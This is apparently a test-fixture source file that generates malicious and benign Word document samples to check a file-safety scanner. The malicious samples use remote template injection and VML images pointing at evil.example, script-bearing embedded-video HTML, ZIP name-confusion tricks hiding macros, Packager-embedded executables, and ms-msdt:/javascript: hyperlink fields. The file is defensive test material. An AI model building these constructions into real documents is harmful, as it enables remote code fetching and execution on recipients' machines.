/** Word documents that fetch or start something in little-known ways, and similar genuine ones. */
import { crc32 } from 'node:zlib';
import { doc } from './doc.ts';
import { contentTypes, docx, docxWith, field, link, rels, rootLinks, textPart } from './genuine-texts.ts';
import type { Harmful } from './harmful-pdfs.ts';
import { ADDRESSES } from './unusual-addresses.ts';
import { zip } from './zip.ts';

const W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
const EVIL = 'https://evil.example/t.dotm';
const SHARE = '\\\\evil.example\\s';
const TEMPLATE = `<?xml version="1.0"?><Relationships>${link('attachedTemplate', EVIL, 'External')}</Relationships>`;

const text = (what: string, content: Buffer): Harmful => [what, 'cv.docx', content, 'unsafeFile'];
const part = (name: string, content: string) => docx({ name, content });
const settings = (inner: string) =>
  part('word/settings.xml', `<?xml version="1.0"?><w:settings xmlns:w="${W}">${inner}</w:settings>`);
const merge = (place: string) =>
  settings(
    `<w:mailMerge><w:connectString w:val="Provider=Microsoft.ACE.OLEDB.12.0;Data Source=${place};Mode=Read"/></w:mailMerge>`,
  );
const addIn = (store: string, type: string) =>
  part(
    'word/webextensions/webextension1.xml',
    `<a:webextension xmlns:a="a"><a:reference id="a" store="${store}" storeType="${type}"/></a:webextension>`,
  );
const film = (html: string) => docxWith(`<a:webVideoPr xmlns:a="a" embeddedHtml="${html}" h="1" w="1"/>`);
const linked = (...addresses: string[]) =>
  docx(rels('word/_rels/document.xml.rels', ...addresses.map((address) => link('hyperlink', address, 'External'))));

const PAINT = '0a00030000000000c000000000000046';
const PACKAGER = '0c00030000000000c000000000000046';

/** An embedded object that an older program has packaged. */
function packed(program: string, content: Buffer): Buffer {
  const native = Buffer.concat([Buffer.alloc(4), content], 5000);
  native.writeUInt32LE(native.length - 4);
  const object = doc(['\u0001Ole10Native'], { program, streams: { '\u0001Ole10Native': native } });
  return docx({ name: 'word/embeddings/oleObject1.bin', content: object });
}

/** The header of a bitmap with this size in bytes. */
function bitmap(bytes: number): Buffer {
  const head = Buffer.alloc(64);
  head.write('BM');
  head.writeUInt32LE(bytes, 2);
  return head;
}

/** An archive in which an entry has a second name (APPNOTE 4.6.9). */
function withOtherName(name: string, other: string, content: string): Buffer {
  const archive = zip([contentTypes(), rootLinks, textPart(), { name, content }]);
  const more = Buffer.alloc(9);
  more.writeUInt16LE(0x7075, 0);
  more.writeUInt16LE(5 + other.length, 2);
  more.writeUInt8(1, 4);
  more.writeUInt32LE(crc32(name), 5);
  const end = archive.subarray(-22);
  const last = archive.length - end.length;
  archive.writeUInt16LE(more.length + other.length, last - name.length - 46 + 30);
  end.writeUInt32LE(end.readUInt32LE(12) + more.length + other.length, 12);
  return Buffer.concat([archive.subarray(0, last), more, Buffer.from(other), end]);
}

export const unusualHarmfulTexts: Harmful[] = [
  text(
    'a template that says it is a link',
    docx(rels('word/_rels/settings.xml.rels', link('hyperlink', EVIL, 'External'))),
  ),
  text('addresses for letters on a share', merge(`${SHARE}\\a.mdb`)),
  text('addresses for letters from elsewhere', merge(EVIL)),
  text(
    'addresses for letters by a file of a share',
    settings('<w:mailMerge><w:odso><w:udl w:val="Data Source=//evil.example/s"/></w:odso></w:mailMerge>'),
  ),
  text(
    'a drawing under another prefix',
    docxWith(`<y:imagedata xmlns:y="urn:schemas-microsoft-com:vml" src="${EVIL}"/>`),
  ),
  text('a drawing without a prefix', docxWith(`<imagedata xmlns="urn:schemas-microsoft-com:vml" src="${EVIL}"/>`)),
  text('an add-in from a share', addIn(SHARE, 'FileSystem')),
  text('a film that is a script', film('&lt;script&gt;alert(1)&lt;/script&gt;')),
  text('a film in a frame that is a script', film('&lt;iframe src=&quot;javascript:alert(1)&quot;&gt;&lt;/iframe&gt;')),
  text('a film in a frame that runs', film('&lt;iframe onload=&quot;alert(1)&quot;&gt;&lt;/iframe&gt;')),
  text('a film in a frame with a page of its own', film('&lt;iframe srcdoc=&quot;x&quot;&gt;&lt;/iframe&gt;')),
  ...['{\\rtf1}', 'MIME-Version: 1.0\r\n\r\n<img src="https://evil.example/a">'].map((content, index) =>
    text(
      `a text of another program under no name, ${index}`,
      docx(rels('word/_rels/document.xml.rels', link('aFChunk', '/word/a.bin')), { name: 'word/a.bin', content }),
    ),
  ),
  text(
    'links that begin elsewhere',
    part(
      'word/_rels/document.xml.rels',
      `<Relationships xml:base="https://evil.example/">${link('image', 'a.png', 'External')}</Relationships>`,
    ),
  ),
  text(
    'a list of links under another name beside its own',
    withOtherName('word/_rels/settings.xml.rels', 'word/a.bin', TEMPLATE),
  ),
  text('macros under another name beside their own', withOtherName('word/vbaProject.bin', 'word/media/a.png', 'x')),
  text('a list of links whose name is in numbers', part('word/_rels/settings.xml.%72els', TEMPLATE)),
  text('a list of links in pieces', part('word/_rels/settings.xml.rels/[0].last.piece', TEMPLATE)),
  text('a folder with content', part('word/vbaProject.bin/', 'x')),
  text(
    'a ribbon with macros from elsewhere',
    part('customUI/customUI.xml', `<customUI xmlns="c" onLoad="${EVIL}!run"/>`),
  ),
  text(
    'a template on a share behind the letter of a drive',
    docx(rels('word/_rels/settings.xml.rels', link('attachedTemplate', 'file://C:@evil.example/t.dotm', 'External'))),
  ),
  text('a program in a package', packed(PACKAGER, Buffer.from('\u0002\0a.exe\0C:\\a.exe\0', 'latin1'))),
  text('a picture that the packager would open', packed(PACKAGER, bitmap(4996))),
  text('a program that says it is of Paint', packed(PAINT, Buffer.from('\u0002\0a.exe\0', 'latin1'))),
  text('a picture of Paint with much behind it', packed(PAINT, bitmap(64))),
  text('a link to a program of the system', linked('ms-word:ofe|u|https://evil.example/a.docm')),
  text('a field that leads to a script', docxWith(field(['HYPERLINK "java&#9;script:alert(1)"']))),
  text('a field that leads to a program', docxWith('<w:fldSimple w:instr="HYPERLINK &quot;ms-msdt:/id&quot;"/>')),
  [
    'a field of an old text that leads to a script',
    'cv.doc',
    doc(['WordDocument', '1Table'], { text: '\u0013HYPERLINK "javascript:1"\u0014x\u0015' }),
    'unsafeFile',
  ],
];

export const unusualGenuineTexts: [name: string, content: Buffer][] = [
  ['with a ribbon.docx', part('customUI/customUI.xml', '<customUI xmlns="c" onLoad="run"/>')],
  ['with a picture pasted from Paint.docx', packed(PAINT, bitmap(4986))],
  ['with spare tables.doc', doc(['WordDocument', '1Table'], { spareTables: 2 })],
  ['filled up with ends.doc', doc(['WordDocument', '1Table'], { filling: 0xfffffffe })],
  ['locked, with a spare table.docx', doc(['EncryptionInfo', 'EncryptedPackage'], { spareTables: 1 })],
  ['with letters to people in a table.docx', merge('C:\\Users\\amina\\list.xlsx')],
  ['with an add-in for citations.docx', addIn('en-US', 'OMEX')],
  [
    'with a film.docx',
    film(
      '&lt;iframe width=&quot;200&quot; src=&quot;https://video.example/a&quot; allowfullscreen=&quot;&quot;&gt;&lt;/iframe&gt;',
    ),
  ],
  ['with backslashes in its archive.docx', docx({ name: 'word\\theme\\theme1.xml', content: '<a/>' })],
  ['with links of every kind.docx', linked(...ADDRESSES)],
];
